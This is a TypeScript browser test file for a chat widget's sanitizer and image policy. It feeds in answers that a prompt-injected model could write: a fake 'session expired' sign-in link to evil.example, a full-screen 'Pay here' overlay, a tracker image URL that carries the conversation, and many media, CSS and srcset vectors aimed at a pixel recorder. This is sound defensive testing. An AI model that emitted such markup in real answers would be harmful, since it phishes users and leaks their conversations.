/**
 * The attacks an answer can make without script: dressing as the widget (class, part, slot, id),
 * covering it (fixed and absolute overlays), and sending the conversation somewhere (images, media,
 * posters, backgrounds, srcset, CSS `url()`, relative URLs that hit the site itself). Each answer
 * below is what a prompt-injected model could write; the bot echoes it (the emulator's `echo`).
 * The requests that really left the browser are read from the test server's pixel recorder.
 */
import { expect } from '@esm-bundle/chai';
import { render } from 'lit';
import type { CozeChat } from '../../src/element/coze-chat.js';
import en from '../../src/i18n/en.js';
import { cardView } from '../../src/view/content/card-view.js';
import { ImageGate, imageVerdict, COZE_IMAGE_HOSTS } from '../../src/view/images/image-policy.js';
import type { ViewContext } from '../../src/view/view-context.js';
import { queueFaults, waitFor } from '../helpers.js';
import { converse, mountChat, part, parts } from '../element.js';

const PAGE = location.origin;
let run = 0;

/** A pixel URL of this test's own, and the name its hits are recorded under. */
function pixel(name: string): string {
  return `${PAGE}/pixel/${name}`;
}

/** The names of the pixels whose names start with `prefix` that the browser fetched, and their Referer. */
async function hits(prefix: string): Promise<{ name: string; referer?: string }[]> {
  return (await fetch(`/pixel-hits?name=${encodeURIComponent(prefix)}`)).json();
}

/** A widget whose bot echoes `answer` back, once drawn. */
async function answered(answer: string, attributes: Record<string, string> = {}): Promise<{ chat: CozeChat; bubble: HTMLElement }> {
  const { chat, user } = await mountChat('cloud', attributes);
  await queueFaults('cloud', user, 'echo');
  await converse(chat, answer);
  const bubble = parts(chat, 'assistant').at(-1)!;
  // Give anything an answer might load the time to be asked for.
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { chat, bubble };
}

describe('an answer cannot dress as the widget', () => {
  const DRESSED = [
    '<div class="panel cover launcher" part="launcher panel" slot="empty" id="panel" name="panel" popover tabindex="1" accesskey="s" autofocus data-rate="like" data-message-id="m1">',
    'Your session expired. <a href="https://evil.example/login" class="send-button" part="send-button" ping="https://evil.example/ping">Sign in again</a></div>',
    '',
    '<dialog open>a dialog</dialog><template><b>kept for later</b></template><slot></slot><slot name="empty"></slot>',
    '',
    '```js',
    'let x = 1;',
    '```',
  ].join('\n');

  it("keeps no class (but a code block's language), part, slot, id, name, popover or focus-stealing attribute", async () => {
    const { chat, bubble } = await answered(DRESSED);
    const markdown = bubble.querySelector('.markdown')!;
    expect(markdown.textContent).to.contain('Your session expired.');
    for (const element of markdown.querySelectorAll('*')) {
      // The code block's toolbar and tokens are the widget's own, added after sanitizing.
      if (element.closest('.code-block, pre')) continue;
      for (const name of [
        'class',
        'part',
        'slot',
        'id',
        'name',
        'popover',
        'tabindex',
        'accesskey',
        'autofocus',
        'ping',
        'data-rate',
        'data-message-id',
      ]) {
        expect(element.hasAttribute(name), `${name} on <${element.localName}>`).to.equal(false);
      }
    }
    expect(markdown.querySelector('code.language-js, pre code')?.textContent).to.contain('let x = 1;');
    expect(markdown.querySelectorAll('dialog, template, slot').length).to.equal(0);
    const root = chat.shadowRoot!;
    expect(root.querySelectorAll('[part~="send-button"]').length, "one Send button, the widget's").to.equal(1);
    expect(root.querySelectorAll('[part~="panel"]').length).to.be.at.most(1);
    expect(root.querySelectorAll('[id="panel"]').length, "only the widget's own element has its id").to.equal(1);
  });

  it("does not take the page's light DOM into an answer", async () => {
    const { chat, user } = await mountChat('cloud');
    const secret = document.createElement('span');
    secret.slot = 'empty';
    secret.textContent = "the page's own text";
    chat.append(secret);
    await queueFaults('cloud', user, 'echo');
    await converse(chat, 'before <slot name="empty"></slot> after <slot></slot>');
    const bubble = part(chat, 'assistant')!;
    expect(bubble.querySelectorAll('slot').length).to.equal(0);
    expect(secret.assignedSlot?.closest('[part~="assistant"]') ?? null).to.equal(null);
  });
});

describe('nothing in an answer is drawn outside its bubble', () => {
  const OVERLAYS = [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Pay here</div>',
    '<div class="panel" style="position:absolute;top:-400px;left:-400px;width:4000px;height:4000px">cover</div>',
    '<table width="3000"><tr><td>a very wide table</td></tr></table>',
    '<p>' + 'x'.repeat(600) + '</p>',
  ].join('\n\n');

  it("keeps every overlay in place and the widget's controls reachable", async () => {
    const { chat, bubble } = await answered(OVERLAYS);
    const root = chat.shadowRoot!;
    for (const element of bubble.querySelectorAll('.markdown *')) {
      expect(getComputedStyle(element).position, `position of <${element.localName}>`).to.equal('static');
    }
    const box = bubble.getBoundingClientRect();
    for (const name of ['input', 'send-button', 'header']) {
      const control = part(chat, name)!;
      const rect = control.getBoundingClientRect();
      const hit = root.elementFromPoint(rect.left + rect.width / 2, rect.top + rect.height / 2);
      expect(hit && control.contains(hit), `${name} is what a click there reaches`).to.equal(true);
    }
    // Just outside the bubble, the widget is what shows.
    const beside = root.elementFromPoint(box.right + 4, box.top + box.height / 2);
    expect(beside?.closest('[part~="assistant"]') ?? null).to.equal(null);
    const table = bubble.querySelector('table')!;
    expect(table.getBoundingClientRect().right).to.be.at.most(box.right + 0.5);
  });
});

describe('images and media from answers', () => {
  const vectors = (tag: string) =>
    [
      `<video poster="${pixel(`${tag}-poster`)}" src="${pixel(`${tag}-video`)}" autoplay></video>`,
      `<audio src="${pixel(`${tag}-audio`)}" autoplay preload="auto"></audio>`,
      `<video><source src="${pixel(`${tag}-source`)}"><track src="${pixel(`${tag}-track`)}"></video>`,
      `<picture><source srcset="${pixel(`${tag}-picture`)}"><img src="${pixel(`${tag}-picture-img`)}" alt="in a picture"></picture>`,
      `<img srcset="${pixel(`${tag}-srcset`)} 2x" src="${pixel(`${tag}-img`)}" alt="with a srcset">`,
      `<table background="${pixel(`${tag}-table`)}"><tr><td background="${pixel(`${tag}-td`)}">cell</td></tr></table>`,
      `<input type="image" src="${pixel(`${tag}-input`)}">`,
      `<link rel="stylesheet" href="${pixel(`${tag}-link`)}"><link rel="prefetch" href="${pixel(`${tag}-prefetch`)}">`,
      `<object data="${pixel(`${tag}-object`)}"></object><embed src="${pixel(`${tag}-embed`)}"><iframe src="${pixel(`${tag}-iframe`)}"></iframe>`,
      `<div style="background:url(${pixel(`${tag}-style`)})">styled</div><style>p{background:url(${pixel(`${tag}-sheet`)})}</style>`,
      `<svg><image href="${pixel(`${tag}-svg`)}"></image></svg>`,
      `<img src="/pixel/${tag}-relative" alt="relative"><img src="./pixel/${tag}-dot" alt="dot">`,
      `![markdown](/pixel/${tag}-md-relative)`,
    ].join('\n\n');

  it('loads nothing but images from a listed origin: no media, poster, background, srcset, CSS or relative URL', async () => {
    const tag = `listed${run++}${Date.now()}`;
    const { bubble } = await answered(vectors(tag), { 'image-hosts': PAGE });
    const fetched = (await hits(tag)).map((hit) => hit.name).sort();
    expect(fetched).to.deep.equal([`${tag}-img`, `${tag}-picture-img`].sort());
    expect(bubble.querySelectorAll('video, audio, source, track, picture, object, embed, iframe, link, style, svg, input').length).to.equal(
      0,
    );
    for (const img of bubble.querySelectorAll('img')) {
      expect(img.getAttribute('referrerpolicy')).to.equal('no-referrer');
      expect(img.hasAttribute('srcset')).to.equal(false);
    }
    // Relative images are left out, with their alt text.
    expect(bubble.textContent).to.contain('relative');
  });

  it('sends no referrer with the images it does load', async () => {
    const tag = `referrer${run++}${Date.now()}`;
    await answered(`![chart](${pixel(`${tag}-chart`)})`, { 'image-hosts': PAGE });
    const [hit] = await waitFor(async () => ((await hits(tag)).length ? hits(tag) : undefined), 'the listed image');
    expect(hit.name).to.equal(`${tag}-chart`);
    expect(hit.referer).to.equal(undefined);
  });

  it('by default loads no image from an unlisted host, and shows a placeholder naming it that loads on a click', async () => {
    const tag = `default${run++}${Date.now()}`;
    const { chat, bubble } = await answered(
      `Here: ![the chart](https://tracker.example/p.gif?q=the+conversation)\n\nand ![local](${pixel(`${tag}-http`)})`,
    );
    expect(await hits(tag), 'an http: image is never loaded').to.deep.equal([]);
    expect(bubble.querySelector('img[src*="tracker.example"]')).to.equal(null);
    const placeholder = bubble.querySelector<HTMLButtonElement>('[part~="image-placeholder"]')!;
    expect(placeholder.textContent!.trim()).to.equal('Image from tracker.example: show it');
    expect(placeholder.title).to.equal('the chart');
    expect(bubble.textContent).to.contain('local');
    placeholder.click();
    await chat.updateComplete;
    const img = await waitFor(
      () => bubble.querySelector<HTMLImageElement>('img[src^="https://tracker.example/"]'),
      'the image the visitor chose',
    );
    expect(img.getAttribute('referrerpolicy')).to.equal('no-referrer');
    expect(img.alt).to.equal('the chart');
  });

  it('under images="allow" loads any https: image but still no http: or relative one', async () => {
    const tag = `allow${run++}${Date.now()}`;
    const { bubble } = await answered(`![a](https://images.example/a.png) ![b](${pixel(`${tag}-b`)}) ![c](/pixel/${tag}-c)`, {
      images: 'allow',
    });
    expect(bubble.querySelector('img[src="https://images.example/a.png"]')).to.not.equal(null);
    expect(bubble.querySelectorAll('[part~="image-placeholder"]').length).to.equal(0);
    expect(await hits(tag)).to.deep.equal([]);
  });

  it('under images="none" loads no image at all, even from a listed origin, and keeps the alt text', async () => {
    const tag = `none${run++}${Date.now()}`;
    const { bubble } = await answered(`![the diagram](${pixel(`${tag}-listed`)})`, { images: 'none', 'image-hosts': PAGE });
    expect(bubble.querySelectorAll('img, [part~="image-placeholder"]').length).to.equal(0);
    expect(bubble.textContent).to.contain('the diagram');
    expect(await hits(tag)).to.deep.equal([]);
  });
});

describe('the image policy beyond answers', () => {
  const context = (settings: ConstructorParameters<typeof ImageGate>[0]) =>
    ({ strings: en, images: new ImageGate(settings), send: () => {} }) as unknown as ViewContext;

  it("asks before a card's image from an unlisted host, and loads Coze's own", () => {
    const card = JSON.stringify({
      title: 'A card',
      items: [
        { image: 'https://tracker.example/c.png', alt: 'tracked' },
        { image: 'https://p9-bot-workflow-sign.byteimg.com/tos/x.png', alt: 'coze' },
      ],
    });
    const box = document.createElement('div');
    render(
      cardView(
        card,
        context(() => ({ mode: 'click', hosts: COZE_IMAGE_HOSTS })),
        false,
      ),
      box,
    );
    expect([...box.querySelectorAll('img')].map((img) => img.getAttribute('src'))).to.deep.equal([
      'https://p9-bot-workflow-sign.byteimg.com/tos/x.png',
    ]);
    expect(box.querySelector('img')!.getAttribute('referrerpolicy')).to.equal('no-referrer');
    const placeholder = box.querySelector<HTMLButtonElement>('[part~="image-placeholder"]')!;
    expect(placeholder.textContent!.trim()).to.equal('Image from tracker.example: show it');
  });

  it("decides by scheme, host, wildcard, origin and the API's own origin", () => {
    const hosts = ['*.byteimg.com', 'cdn.example.com', 'http://127.0.0.1:9000', 'files.example:8443'];
    const settings = { mode: 'click' as const, hosts, apiOrigin: 'http://localhost:8888' };
    const cases: [string, string][] = [
      ['https://p3-bot-workflow-sign.byteimg.com/a.png', 'load'],
      ['https://byteimg.com.evil.example/a.png', 'ask'],
      ['https://evilbyteimg.com/a.png', 'ask'],
      ['https://cdn.example.com/a.png', 'load'],
      ['https://sub.cdn.example.com/a.png', 'ask'],
      ['http://cdn.example.com/a.png', 'drop'],
      ['http://127.0.0.1:9000/a.png', 'load'],
      ['http://127.0.0.1:9001/a.png', 'drop'],
      ['https://files.example:8443/a.png', 'load'],
      ['https://files.example/a.png', 'ask'],
      ['http://localhost:8888/files/a.png', 'load'],
      ['/relative.png', 'drop'],
      ['//evil.example/a.png', 'drop'],
      ['data:image/png;base64,AAAA', 'drop'],
      ['javascript:alert(1)', 'drop'],
      ['  https://cdn.example.com/spaced.png  ', 'load'],
    ];
    for (const [src, verdict] of cases) expect(imageVerdict(src, settings), src).to.equal(verdict);
    expect(imageVerdict('https://cdn.example.com/a.png', { ...settings, mode: 'none' })).to.equal('drop');
    expect(imageVerdict('https://any.example/a.png', { ...settings, mode: 'allow' })).to.equal('load');
  });
});
